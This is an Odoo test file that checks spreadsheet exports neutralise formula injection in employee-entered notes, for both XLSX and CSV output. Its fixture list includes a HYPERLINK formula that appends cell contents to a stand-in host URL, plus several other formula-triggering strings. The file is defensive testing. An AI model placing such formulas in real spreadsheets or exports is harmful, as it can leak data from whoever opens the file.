import csv
import io
import json
import re
from zipfile import ZipFile

from odoo import http
from odoo.tests import tagged

from .common import AsnHttpCase

NOTES = [
    '=HYPERLINK("http://x.example/?"&A1,"Klik")',
    "{=1+1}",
    "@SUM(1)",
    "+1",
    "-1",
    "\t=1",
    "http://x.example/",
    "Pelayanan rawat jalan",
]


@tagged("post_install", "-at_install")
class TestAsnExport(AsnHttpCase):
    """What an employee types is no formula on the machine of whoever exports it."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._begin_half()
        cls.hr_user.group_ids += cls.env.ref("base.group_allow_export")
        for note in NOTES:
            cls._log(cls.plan.result_ids.indicator_ids[0], 1, note=note)

    def _export(self, kind, **params):
        self.authenticate("asn_hr", "asn_hr")
        data = {
            "model": "asn.realisation",
            "fields": [
                {"name": "date", "label": "Tanggal", "type": "date"},
                {"name": "note", "label": "=Catatan", "type": "text"},
                {"name": "quantity", "label": "Jumlah", "type": "float"},
            ],
            "ids": False,
            "domain": [["skp_id", "=", self.plan.id]],
            "import_compat": False,
            **params,
        }
        sent = {"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        answer = self.url_open(f"/web/export/{kind}", data=sent)
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def _read_workbook(self, content):
        """The XML of the sheet, the texts in it, and the names of the parts of the workbook."""
        archive = ZipFile(io.BytesIO(content))
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        texts = archive.read("xl/sharedStrings.xml").decode()
        found = re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", texts)
        return sheet, found, archive.namelist()

    def _check_workbook(self, content):
        sheet, texts, names = self._read_workbook(content)
        self.assertNotIn("<f>", sheet)
        self.assertNotIn("<f ", sheet)
        self.assertNotIn("<hyperlink", sheet)
        self.assertNotIn("xl/worksheets/_rels/sheet1.xml.rels", names)
        for text in ("{=1+1}", "@SUM(1)", "+1", "-1", "http://x.example/", "=Catatan"):
            self.assertIn(text, texts)
        self.assertIn('=HYPERLINK("http://x.example/?"&amp;A1,"Klik")', texts)

    def test_cells_of_a_workbook_are_texts(self):
        self._check_workbook(self._export("xlsx"))

    def test_cells_of_a_grouped_workbook_are_texts(self):
        self._check_workbook(self._export("xlsx", groupby=["note"]))

    def test_numbers_and_days_stay_what_they_are(self):
        sheet, _texts, _names = self._read_workbook(self._export("xlsx"))
        for column, value in (("A", r"\d{5}"), ("C", "1")):
            found = re.findall(rf'<c r="{column}\d+" s="\d+"><v>{value}</v></c>', sheet)
            self.assertEqual(len(found), len(NOTES), column)

    def test_no_cell_of_a_csv_begins_as_a_formula(self):
        rows = list(csv.reader(io.StringIO(self._export("csv").decode())))
        notes = [row[1] for row in rows[1:]]
        self.assertEqual(len(notes), len(NOTES))
        for note in notes:
            self.assertNotRegex(note, r"^[=+\-@\t\r]")
        self.assertIn("'@SUM(1)", notes)
        self.assertIn("'+1", notes)
        self.assertIn("Pelayanan rawat jalan", notes)
